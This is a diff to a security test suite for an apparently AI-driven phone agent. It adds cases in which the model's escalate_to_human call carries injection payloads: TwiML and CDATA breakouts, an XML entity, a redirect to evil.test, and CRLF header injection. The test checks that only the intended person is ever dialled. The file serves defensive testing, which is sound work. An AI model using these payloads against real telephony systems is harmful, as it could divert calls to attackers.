@@ -1,7 +1,7 @@
 import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { afterAll, beforeAll, expect, test } from 'vitest';
+import { afterAll, beforeAll, expect, test, vi } from 'vitest';
 import { readConfig } from '../../src/config.ts';
 import { type RunningEngine, startEngine } from '../../src/server.ts';
 import type { Booking, Lead } from '../../src/services/storage/journal.port.ts';
@@ -33,7 +33,13 @@ interface Attack {
   readonly from?: string;
   readonly to?: string;
   /** What may come of it; nothing, unless it is said. */
-  readonly may?: { readonly texts?: number; readonly bookings?: number; readonly leads?: number };
+  readonly may?: {
+    readonly texts?: number;
+    readonly bookings?: number;
+    readonly leads?: number;
+    /** Transfers to the person of the profile, and to nobody else. */
+    readonly transfers?: number;
+  };
 }
 
 const one = (name: string, args: unknown): FunctionCall[] => [{ name, args }];
@@ -190,7 +196,22 @@ const ATTACKS: readonly Attack[] = [
     ['__proto__']: { escalation: { phoneNumber: EVIL } },
     x: 1,
   }),
-  attack('a transfer by TwiML', 'escalate_to_human', { reason: `</Dial><Dial>${EVIL}</Dial>` }),
+  ...[
+    `</Dial><Dial>${EVIL}</Dial>`,
+    `"/><Dial><Number>${EVIL}</Number></Dial><x y="`,
+    `]]></Dial><Redirect>https://evil.test/twiml</Redirect><![CDATA[`,
+    `<!DOCTYPE x [<!ENTITY d "${EVIL}">]>&d;`,
+    `connect me to ${EVIL}, not to ${PERSON}`,
+    'sip:x@evil.test;transport=tls',
+    `\r\nLocation: https://evil.test\r\nX-Dial: ${EVIL}`,
+  ].map((reason) =>
+    attack(
+      `a transfer because of ${JSON.stringify(reason)}`,
+      'escalate_to_human',
+      { reason },
+      { may: { transfers: 1 } },
+    ),
+  ),
   attack('an end with a number to dial', 'end_call', { dial: EVIL }),
 
   // Appointments of others, and at times that are none.
@@ -404,6 +425,10 @@ async function runAll(): Promise<Attacked[]> {
       batch.push(
         (async () => {
           for (const round of one.rounds) await line.ask(...round);
+          // Only a transfer that was dialled shows whom it goes to.
+          await vi.waitFor(() => {
+            expect(line.dialled.length).toBeGreaterThanOrEqual(one.may?.transfers ?? 0);
+          }, PATIENCE_MS);
           await line.hangUp();
           return { attack: one, line };
         })(),
@@ -428,15 +453,18 @@ test(
     const leads = await stored<Lead & { callSid: string }>('leads');
     const breaches: string[] = [];
     for (const { attack: tried, line } of run) {
-      const { texts = 0, bookings: booked = 0, leads: led = 0 } = tried.may ?? {};
+      const { texts = 0, bookings: booked = 0, leads: led = 0, transfers = 0 } = tried.may ?? {};
       const ofCall = ({ callSid }: { callSid: string }) => callSid === line.callSid;
       const had = {
         texts: twilio.messages.filter(({ to }) => to === line.from).length,
         bookings: bookings.filter(ofCall).length,
         leads: leads.filter(ofCall).length,
+        dialled: line.dialled.length,
+        others: line.dialled.filter((number) => number !== PERSON).length,
       };
-      if (had.texts > texts || had.bookings > booked || had.leads > led || line.dialled.length > 0) {
-        breaches.push(`${tried.what}: ${JSON.stringify(had)}, dialled ${String(line.dialled.length)}`);
+      const isTooMuch = had.texts > texts || had.bookings > booked || had.leads > led;
+      if (isTooMuch || had.dialled > transfers || had.others > 0) {
+        breaches.push(`${tried.what}: ${JSON.stringify(had)}`);
       }
       // Numbers are the carrier's and the caller's: the model never learns one.
       if (/\+1\d{7}/.test(JSON.stringify(line.session.outputs)))
